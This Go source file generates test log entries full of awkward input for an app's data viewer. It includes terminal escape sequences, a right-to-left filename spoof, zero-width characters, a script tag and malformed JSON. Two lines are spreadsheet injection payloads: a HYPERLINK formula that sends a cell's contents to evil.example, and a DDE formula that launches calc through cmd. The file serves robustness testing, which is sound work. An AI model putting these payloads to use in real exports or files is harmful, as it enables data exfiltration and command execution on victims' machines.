package story

import "strings"

// hostile is what somebody typed into a form to see what breaks, or what a
// careless integration sent.
func hostile() [][2]string {
	return [][2]string{
		{"Name", "\x1b]0;owned\x07\x1b[31mred\x1b[0m\x1b[2J"},
		{"Title", "\x1b]52;c;ZGVtbw==\x07 and \u009b31m too"},
		{"File", "invoice\u202egpj.exe"},
		{"Note", "zero\u200bwidth\u200djoin\ufeff and \u2066isolated\u2069"},
		{"Link", `=HYPERLINK("http://evil.example/?x="&A1,"Click me")`},
		{"Phone", "+1 202 555 0123"},
		{"Cell", "@SUM(1+1)*cmd|' /C calc'!A0"},
		{"Minus", "-2+3"},
		{"Discount", "100% off_today \\ C:\\temp\\new"},
		{"Comment", "line one\nline two\r\n\tindented\ttwice\b\f"},
		{"Emoji", "👩\u200d👩\u200d👧\u200d👦 🏳️\u200d🌈 👍🏽 e\u0301 ﷽ \U0001F9D1\U0001F3FF\u200d\U0001F680"},
		{"Markup", `<script>alert("1 < 2 & 3 > 2")</script>`},
		{"Lines", "a\u2028b\u2029c\u0085d\u007fe"},
		{"Zalgo", "Z" + strings.Repeat("\u0334\u0347\u0301", 12) + "o"},
		{"Quoted", `{"status": "failed"}`},
		{"Wide", "ＦＵＬＬ ｗｉｄｔｈ、全角テキスト"},
		{"Private", "\ue000 and \U000f0000"},
	}
}

// hostileValues are entries with such values, over the last day, and one log
// whose very type is one.
func hostileValues(g *generator) {
	v := g.visitTo(g.person(firstAppUser+9), 1, handbook)
	for i, h := range hostile() {
		r := v.record("dataSource.entry.create")
		e := g.newEntry(&v)
		r.DataSourceEntryID, r.DataSourceID = e.id, v.app.sources[1].id
		g.about(&v)
		g.w.object("entry")
		g.w.text(h[0], h[1])
		g.w.end()
		g.add(g.ago(25*minute+int64(i)*79*minute), r)
	}
	g.about(&v)
	g.w.text("\x1b[7mkey\u202e\n", "a key may be hostile too")
	g.w.text("", "an empty key")
	g.add(g.ago(100*minute), v.record("custom.\x1b[31m受付\u202e"))
}

// odd are whole values of data in shapes nobody expects.
func odd() []string {
	return []string{
		`[1, "two", {"three": 3}, null]`,
		`"just a text"`,
		`42`,
		`true`,
		`{}`,
		`[]`,
		`{"1": "one", "2": "two", "10": "ten", "name": "integer-like keys"}`,
		`{"id": 9007199254740993, "huge": 123456789012345678901234567890, "tiny": 0.00000012, "count": 1.0, "price": 249.90}`,
		`{"ids": [9007199254740992, 9007199254740993, -9223372036854775809], "messageId": "not-sent-by-email"}`,
		`{"id": "41270", "note": "id as a text; see build 412 and source 41270", "mediaFileId": "1904101"}`,
		`{"_userEmail": null, "_studioUser": "not an object"}`,
		`{"_userEmail": ["ann@acme.example", "sam.rivera@acme.example"]}`,
		`{"_os": 12, "_pageId": "113000", "_platform": {"name": "web"}, "_pageTitle": null}`,
		`{"device": [], "session": "none", "statusCode": "200"}`,
	}
}

// oddShapes are logs of an app that writes its own, with such data.
func oddShapes(g *generator) {
	v := g.visitTo(g.person(bot), 0, fieldService)
	for i, data := range odd() {
		r := v.record("custom.import.row")
		r.Data = data
		g.addPlain(g.ago(45*minute+int64(i)*97*minute), r)
	}
}

// nullsArc are logs with this or that missing, one with nothing but a type.
func nullsArc(g *generator) {
	v := g.visitTo(g.person(firstAppUser+3), 0, newsroom)
	noData, noUser, noApp := v.record("user.logout"), v.record("session.locale.updated"), v.record("app.error.live")
	g.addPlain(g.ago(80*minute), noData)
	noUser.UserID = 0
	noUser.Data = `{"locale": "pl", "previousLocale": "en"}`
	g.addPlain(g.ago(85*minute), noUser)
	noApp.AppID, noApp.SessionID = 0, 0
	noApp.Data = `{"message": null}`
	g.addPlain(g.ago(88*minute), noApp)
	g.addPlain(g.ago(95*minute), Record{Type: "dataSource.event", RequestID: noRequest})
	g.addPlain(g.ago(96*minute), Record{Type: "user.login.failed", Data: `{"ip": "2001:db8::66", "device": null, "_userEmail": "nobody@mail.example", "statusCode": 404}`})
}

const (
	longBytes = 30_000
	depth     = 60
)

// longValues are a log with a very long text and one nested very deep.
func longValues(g *generator) {
	v := g.visitTo(g.person(bot), 0, fieldService)
	g.about(&v)
	g.w.number("statusCode", 502)
	g.w.text("responseBody", "<html>\n"+strings.Repeat("<p>Bad gateway — upstream said nothing. \"Retry\"</p>\n", longBytes/52)+"</html>")
	g.add(g.ago(5*hour), v.record("app.error.live"))

	g.w.begin()
	for range depth - 1 {
		g.w.object("child")
	}
	g.w.text("leaf", "sixty levels down")
	g.add(g.ago(6*hour), v.record("custom.import.row"))
}
